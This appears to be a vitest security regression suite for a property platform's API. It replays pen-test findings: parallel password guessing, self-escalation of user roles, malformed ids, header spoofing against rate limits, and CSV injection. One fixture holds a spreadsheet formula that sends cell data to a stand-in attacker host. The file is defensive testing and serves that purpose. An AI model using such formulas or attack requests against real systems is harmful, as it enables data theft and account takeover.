// The attacks of issue 9, each performed as the prober did it, over app.inject against the demo data.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { bearer, createHarness, type Harness } from '../testing/harness.ts';

let h: Harness;
beforeAll(async () => {
  h = await createHarness();
});
afterAll(async () => h.close());
beforeEach(async () => h.reset());

const login = (userName: string, password: string) =>
  h.app.inject({ method: 'POST', url: '/api/user/login', payload: { userName, password } });

describe('finding 2: the five-attempt lockout holds under parallel requests', () => {
  it('20 simultaneous wrong passwords block the account; the right password straight after is refused', async () => {
    const wrong = await Promise.all(Array.from({ length: 20 }, () => login('collector', 'wrong-password')));
    expect(wrong.map((r) => r.statusCode)).toEqual(Array(20).fill(401));
    const keys = wrong.map((r) => r.json().key);
    expect(keys.filter((k) => k === 'login-error')).toHaveLength(5);
    expect(keys.filter((k) => k === 'login-blocked')).toHaveLength(15);
    const right = await login('collector', 'demo1234');
    expect(right.statusCode).toBe(401);
    expect(right.json().key).toBe('login-blocked');
  });

  it('after the block, an existing and an unknown user name answer alike', async () => {
    await Promise.all(Array.from({ length: 6 }, () => login('collector', 'wrong-password')));
    await Promise.all(Array.from({ length: 6 }, () => login('no-such-user', 'wrong-password')));
    const known = await login('collector', 'wrong-password');
    const unknown = await login('no-such-user', 'wrong-password');
    expect(known.statusCode).toBe(unknown.statusCode);
    expect(known.json()).toEqual(unknown.json());
    expect(unknown.json().key).toBe('login-blocked');
  });
});

const userRow = (userName: string) =>
  h.db.selectFrom('users').select(['id', 'roles', 'status', 'locked', 'session_version']).where('user_name', '=', userName).executeTakeFirstOrThrow();

describe('finding 3: nobody raises their own rights, nobody acts on someone with more rights', () => {
  it('a scoring model manager cannot give itself the account administrator role', async () => {
    const own = await userRow('scoring');
    const token = await h.login('scoring');
    const current = (await h.app.inject({ url: `/api/user/${own.id}`, headers: bearer(token) })).json();
    const res = await h.app.inject({ method: 'PUT', url: '/api/user', headers: bearer(token), payload: { ...current, userRoles: [3, 0] } });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ statusCode: 400, fields: [{ path: 'userRoles', key: 'user-role-own', message: 'Ihre eigenen Rollen können Sie nicht ändern' }] });
    expect((await userRow('scoring')).roles).toEqual([3]);
    // The token it holds still sees its own organisation only.
    expect((await h.app.inject({ url: '/api/organisations?pageSize=100', headers: bearer(token) })).json().total).toBe(1);
  });

  it('an account manager can neither deactivate, lock nor archive the platform’s account administrator', async () => {
    const admin = await userRow('admin');
    const deactivate = await h.as('accountmanager', 'DELETE', `/api/user/${admin.id}`);
    expect(deactivate.json()).toMatchObject({ statusCode: 403, key: 'user-not-manageable' });
    // Locking and archiving are the administrator's alone anyway.
    for (const [method, url] of [['POST', `/api/user/lock/${admin.id}`], ['DELETE', `/api/user/archive/${admin.id}`]] as const) {
      expect((await h.as('accountmanager', method, url)).statusCode).toBe(403);
    }
    expect(await userRow('admin')).toEqual(admin);
    await h.app.drainBackground();
    expect(h.mailer.sent).toEqual([]);
  });

  it('a pending user cannot be activated before setting a password, not even after a detour through inactive', async () => {
    const created = await h.as('admin', 'POST', '/api/user', {
      firstName: 'Paula', lastName: 'Pending', organisationId: (await h.db.selectFrom('organisations').select('id').where('name', '=', 'Musterimmobilien AG').executeTakeFirstOrThrow()).id,
      position: 'Daten', email: 'paula@example.org', userName: 'paula', phoneNumber: '+49 69 1', mobileNumber: '', userRoles: [5], external: false, mainContactPerson: false,
    });
    expect(created.statusCode).toBe(201);
    const id = created.json().id as number;
    expect((await h.as('admin', 'POST', `/api/user/activate/${id}`)).json()).toMatchObject({ statusCode: 400, key: 'user-state-invalid' });
    expect((await h.as('admin', 'DELETE', `/api/user/${id}`)).statusCode).toBe(204);
    expect((await h.as('admin', 'POST', `/api/user/activate/${id}`)).json()).toMatchObject({ statusCode: 400, key: 'user-state-invalid' });
    expect((await h.db.selectFrom('users').select('status').where('id', '=', id).executeTakeFirstOrThrow()).status).toBe(0);
  });
});

describe('finding 1: a buyer cannot list the platform’s objects through access requests', () => {
  const assetIdOf = async (name: string) => (await h.db.selectFrom('assets').select('id').where('name', '=', name).executeTakeFirstOrThrow()).id;
  const ask = async (token: string, id: number) => h.app.inject({ method: 'POST', url: `/api/asset/${id}/requestAssetAccess`, headers: bearer(token) });

  it('before approval the buyer sees only the id it typed and the state of its request', async () => {
    const token = await h.login('buyer');
    const hotel = await assetIdOf('Hotel am Rheinufer');
    expect((await ask(token, hotel)).statusCode).toBe(204);
    const listed = (await h.app.inject({ url: '/api/asset/accessRequests', headers: bearer(token) })).json();
    expect(listed).toEqual([{ id: expect.any(Number), assetId: hotel, assetName: null, ownerOrganisationName: null, requestedAt: expect.any(String), decision: null, decidedAt: null }]);
    expect(JSON.stringify(listed)).not.toMatch(/Hotel|Musterimmobilien/);
  });

  it('a repeated request while one is open sends no second mail and answers the already requested/granted warning', async () => {
    const token = await h.login('buyer');
    const hotel = await assetIdOf('Hotel am Rheinufer');
    const answers = await Promise.all([ask(token, hotel), ask(token, hotel), ask(token, hotel)]);
    expect(answers.map((r) => r.statusCode).sort()).toEqual([204, 409, 409]);
    expect(answers.find((r) => r.statusCode === 409)!.json()).toMatchObject({
      statusCode: 409, key: 'asset-access-request-already-granted', message: 'Der Zugriff auf dieses Objekt wurde bereits angefragt oder gewährt.',
    });
    await h.app.drainBackground();
    // One mail to each of the owner's contacts, once.
    const recipients = h.mailer.sent.map((m) => m.to);
    expect(recipients.length).toBeGreaterThan(0);
    expect(new Set(recipients).size).toBe(recipients.length);
    expect(await h.db.selectFrom('asset_access_requests').select('id').execute()).toHaveLength(1);
  });

  it('requests that mail owners are limited per buyer organisation: the 21st within an hour answers 429 and stores nothing', async () => {
    const token = await h.login('buyer');
    const template = await h.db.selectFrom('assets').selectAll().where('name', '=', 'Hotel am Rheinufer').executeTakeFirstOrThrow();
    const { id: _id, ...copy } = template;
    const ids = (
      await h.db
        .insertInto('assets')
        .values(Array.from({ length: 21 }, (_, i) => ({ ...copy, name: `Probe ${i}` }) as never))
        .returning('id')
        .execute()
    ).map((r) => r.id);
    for (const id of ids.slice(0, 20)) expect((await ask(token, id)).statusCode).toBe(204);
    const refused = await ask(token, ids[20]!);
    expect(refused.json()).toMatchObject({ statusCode: 429, key: 'asset-access-request-too-many' });
    expect(await h.db.selectFrom('asset_access_requests').select('id').execute()).toHaveLength(20);
    // An hour later the organisation may ask again.
    h.clock.now += 60 * 60 * 1000 + 1;
    expect((await ask(token, ids[20]!)).statusCode).toBe(204);
  });
});

describe('finding 4: input never causes a 500', () => {
  it('a NUL byte in a sign-in name (no sign-in needed) and in a search answers 400', async () => {
    const res = await login('a\u0000b', 'x');
    expect(res.json()).toMatchObject({ statusCode: 400, fields: [{ path: 'userName' }] });
    const search = await h.as('admin', 'GET', '/api/asset?search=%00');
    expect(search.json()).toMatchObject({ statusCode: 400, fields: [{ path: 'search' }] });
  });

  it('integers of 2³¹ and above answer 400 in ids, versions and query values', async () => {
    expect((await h.as('admin', 'GET', '/api/asset/2147483648')).statusCode).toBe(400);
    expect((await h.app.inject({ method: 'POST', url: '/api/asset/requestAssetAccess/2147483648?token=a&decision=true' })).statusCode).toBeLessThan(500);
    expect((await h.as('admin', 'GET', '/api/user?page=2147483648')).statusCode).toBe(400);
    const id = (await h.db.selectFrom('assets').select('id').where('name', '=', 'Hotel am Rheinufer').executeTakeFirstOrThrow()).id;
    const current = (await h.as('objectadmin', 'GET', `/api/asset/${id}`)).json();
    expect((await h.as('objectadmin', 'PUT', '/api/asset', { ...current, version: 2 ** 31 })).statusCode).toBe(400);
  });

  it('ids are strict: 0x10, %201 and 1e3 address no row, and DELETE /api/asset/%201 deletes nothing', async () => {
    const before = await h.db.selectFrom('assets').select('id').orderBy('id').execute();
    for (const id of ['0x1', '%201', '1e0', '+1', '01', '1.0']) {
      const res = await h.as('admin', 'DELETE', `/api/asset/${id}`);
      expect(res.statusCode, id).toBe(400);
      expect(res.json().fields[0]).toMatchObject({ path: 'id' });
    }
    expect(await h.db.selectFrom('assets').select('id').orderBy('id').execute()).toEqual(before);
  });
});

describe('finding 5: exports neutralise formulas (OWASP CSV injection)', () => {
  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")';
  const exportUsers = async (format: number) => {
    const org = (await h.db.selectFrom('organisations').select('id').where('name', '=', 'Käufer Wohnbau GmbH').executeTakeFirstOrThrow()).id;
    await h.db.updateTable('users').set({ first_name: formula, position: '@SUM(1+1)', phone_number: '+49 89 555010' }).where('user_name', '=', 'buyer').execute();
    return h.as('admin', 'GET', `/api/export/users?exportFormat=${format}&language=de&Organisations=${org}`);
  };

  it('CSV: a first name =HYPERLINK(…) comes out as text, not as a live formula', async () => {
    const body = (await exportUsers(1)).body;
    expect(body).toContain(`'=HYPERLINK(`);
    expect(body).toContain(`'@SUM(1+1)`);
    expect(body).toContain(`'+49 89 555010`);
    expect(body).not.toMatch(/(^|;|")=HYPERLINK/m);
  });

  it('Excel: the cell holds text starting with an apostrophe, never a formula', async () => {
    const res = await exportUsers(2);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = workbook.getWorksheet('Nutzer')!.getRow(2).values as unknown[];
    expect(cells).toContain(`'${formula}`);
    expect(cells.some((c) => typeof c === 'object' && c !== null && 'formula' in c)).toBe(false);
  });

  it('JSON keeps the value as it was typed', async () => {
    expect((await exportUsers(0)).json()[0].firstName).toBe(formula);
  });
});

describe('the smaller findings', () => {
  it('X-Frame-Options agrees with the CSP: DENY and frame-ancestors none', async () => {
    const res = await h.app.inject({ url: '/api/asset/config' });
    expect(res.headers['x-frame-options']).toBe('DENY');
    expect(res.headers['content-security-policy']).toContain("frame-ancestors 'none'");
  });

  it('the over-length password message names the maximum (128), not the minimum', async () => {
    const res = await h.app.inject({ method: 'POST', url: '/api/user/setPassword', payload: { password: `a1${'x'.repeat(130)}`, token: 'whatever' } });
    expect(res.json()).toMatchObject({ statusCode: 400, fields: [{ path: 'password', key: 'validation-max-length', message: 'Dieses Feld darf höchstens 128 Zeichen lang sein' }] });
  });

  it('no reset mail goes to users of a deactivated or deleted organisation', async () => {
    await h.db.updateTable('organisations').set({ status: 0 }).where('name', '=', 'Beispielbank eG').execute();
    await h.db.updateTable('organisations').set({ deleted_at: new Date() }).where('name', '=', 'Käufer Wohnbau GmbH').execute();
    for (const userName of ['bank', 'buyer']) {
      expect((await h.app.inject({ url: `/api/user/resetPassword?userName=${userName}` })).statusCode).toBe(204);
    }
    await h.app.drainBackground();
    expect(h.mailer.sent).toEqual([]);
    // The same call for a user of an active organisation mails.
    await h.app.inject({ url: '/api/user/resetPassword?userName=collector' });
    await h.app.drainBackground();
    expect(h.mailer.sent.map((m) => m.to)).toEqual(['collector@musterimmobilien.example']);
  });

  it('only those who assign testers may list testers’ names: a buyer may not', async () => {
    expect((await h.as('buyer', 'GET', '/api/user/testers')).statusCode).toBe(403);
    expect((await h.as('collector', 'GET', '/api/user/testers')).statusCode).toBe(403);
    // The evaluator decides, it does not assign (spec 02 §2: decline, accept, download label).
    expect((await h.as('evaluator', 'GET', '/api/user/testers')).statusCode).toBe(403);
    expect((await h.as('admin', 'GET', '/api/user/testers')).statusCode).toBe(200);
  });

  it('the billing address has length limits', async () => {
    const id = (await h.db.selectFrom('organisations').select('id').where('name', '=', 'Musterimmobilien AG').executeTakeFirstOrThrow()).id;
    const current = (await h.as('admin', 'GET', `/api/organisations/${id}`)).json();
    const res = await h.as('admin', 'PUT', '/api/organisations', {
      ...current,
      hasDifferentBillingAddress: true,
      billingAddress: { city: 'x'.repeat(5000), streetName: 'Weg', streetNr: '1', postcode: '12345', country: 'DE' },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().fields[0]).toMatchObject({ path: 'billingAddress.city', key: 'validation-max-length' });
  });
});

describe('behind a proxy (TRUST_PROXY) the rate limits count per client, not per proxy', () => {
  const attempts = async (app: Harness['app'], clientAddress: string, n: number) => {
    const codes: number[] = [];
    for (let i = 0; i < n; i += 1) {
      const res = await app.inject({ method: 'POST', url: '/api/user/login', payload: { userName: 'nobody', password: 'x' }, headers: { 'x-forwarded-for': clientAddress }, remoteAddress: '10.0.0.1' });
      codes.push(res.statusCode);
    }
    return codes;
  };

  it('with the proxy trusted, a second client behind the same proxy is not limited by the first', async () => {
    const proxied = await createHarness({ authRateLimit: 2, trustProxy: '10.0.0.1' });
    try {
      expect(await attempts(proxied.app, '203.0.113.7', 3)).toEqual([401, 401, 429]);
      expect(await attempts(proxied.app, '203.0.113.8', 1)).toEqual([401]);
    } finally {
      await proxied.close();
    }
  });

  it('without it (the default) the header is ignored: nobody escapes the limit by inventing addresses', async () => {
    const direct = await createHarness({ authRateLimit: 2 });
    try {
      expect(await attempts(direct.app, '203.0.113.7', 2)).toEqual([401, 401]);
      expect(await attempts(direct.app, '203.0.113.8', 1)).toEqual([429]);
    } finally {
      await direct.close();
    }
  });
});
